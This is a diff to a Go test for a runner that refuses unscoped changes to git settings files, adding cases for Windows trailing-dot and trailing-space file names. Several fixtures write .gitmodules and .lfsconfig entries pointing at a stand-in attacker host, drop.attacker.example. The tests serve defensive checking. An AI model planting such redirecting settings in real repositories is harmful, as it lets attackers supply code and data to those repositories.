@@ -408,6 +408,10 @@ func TestRedTeamRunnerRefusesUnnamedSettingsAndGitlinks(t *testing.T) {
 			"changed the submodules' sources (.gitmodules) .gitmodules, which only a task whose scope names the path itself may change"},
 		{".GitModules under ** (a case-insensitive disk)", "**", file(".GitModules", "[submodule \"lib\"]\n\turl = https://drop.attacker.example/x\n"), "the submodules' sources (.gitmodules) .GitModules"},
 		{".gitmodules named", "src/**;.gitmodules", file(".gitmodules", "[submodule \"lib\"]\n\tpath = lib\n\turl = ../lib\n"), ""},
+		// Windows drops a name's trailing dots and spaces: on a Windows
+		// runner's checkout these are .gitmodules and .lfsconfig.
+		{".lfsconfig. under ** (a Windows disk)", "**", file(".lfsconfig.", "[lfs]\n\turl = https://drop.attacker.example/lfs\n"), "Git LFS's settings (.lfsconfig) .lfsconfig."},
+		{".gitmodules with a trailing space under **", "**", file(".gitmodules ", "[submodule \"lib\"]\n\turl = https://drop.attacker.example/x\n"), "the submodules' sources (.gitmodules) .gitmodules "},
 		{".lfsconfig under **", "**", file(".lfsconfig", "[lfs]\n\turl = https://drop.attacker.example/lfs\n"), "Git LFS's settings (.lfsconfig) .lfsconfig"},
 		// A workflow a task adds runs on planex's push with any secret of
 		// the repository it names: only a scope written for the folder.
